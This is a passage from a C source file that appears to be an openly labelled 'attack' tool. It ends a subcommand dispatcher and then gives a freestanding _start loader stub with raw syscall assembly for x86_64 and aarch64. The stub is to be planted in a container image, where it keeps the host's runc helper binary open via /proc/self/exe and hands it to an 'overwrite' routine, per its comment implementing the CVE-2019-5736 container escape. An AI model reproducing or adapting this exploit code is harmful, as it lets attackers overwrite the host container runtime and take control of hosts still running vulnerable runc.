    for (size_t i = 0; argc > 1 && i < sizeof all / sizeof *all; i++)
        if (strcmp(argv[1], all[i].name) == 0 && argc - 2 >= all[i].args)
            return all[i].run(argv + 2);
    fprintf(stderr, "attack: no such subcommand, or too few arguments\n");
    return 2;
}

#else

/* What the kernel starts when the helper is executed inside of an image that brings this file along as the
 * helper's loader. It keeps the helper's program open and becomes `attack overwrite` (CVE-2019-5736).
 * No C library: its start-up would take the helper's program headers for its own. */
static long call3(long nr, long a, long b, long c)
{
#if defined __x86_64__
    long rc;
    __asm__ volatile("syscall" : "=a"(rc) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return rc;
#elif defined __aarch64__
    register long x8 __asm__("x8") = nr, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = 0;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#else
#error "no system calls for this machine yet"
#endif
}

void _start(void);
void _start(void)
{
    static char program[] = "/attack", command[] = "overwrite", path[] = "/proc/self/fd/3";
    static char *argv[] = {program, command, path, 0}, *env[] = {0};
    call3(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY); /* becomes 3 */
    call3(SYS_execve, (long)program, (long)argv, (long)env);
    call3(SYS_exit_group, 99, 0, 0);
}

#endif
